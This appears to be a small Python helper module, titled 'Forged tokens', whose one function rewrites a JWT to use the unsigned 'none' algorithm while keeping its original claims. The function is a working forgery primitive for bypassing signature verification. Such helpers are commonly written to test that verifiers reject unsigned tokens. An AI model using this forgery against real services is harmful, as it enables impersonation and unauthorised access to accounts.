"""Forged tokens."""

from __future__ import annotations

from base64 import urlsafe_b64encode


def strip_signature(token: str) -> str:
    """The claims of ``token`` under the algorithm ``none``, which has no signature."""
    header = urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').decode().rstrip("=")
    return f"{header}.{token.split('.')[1]}."
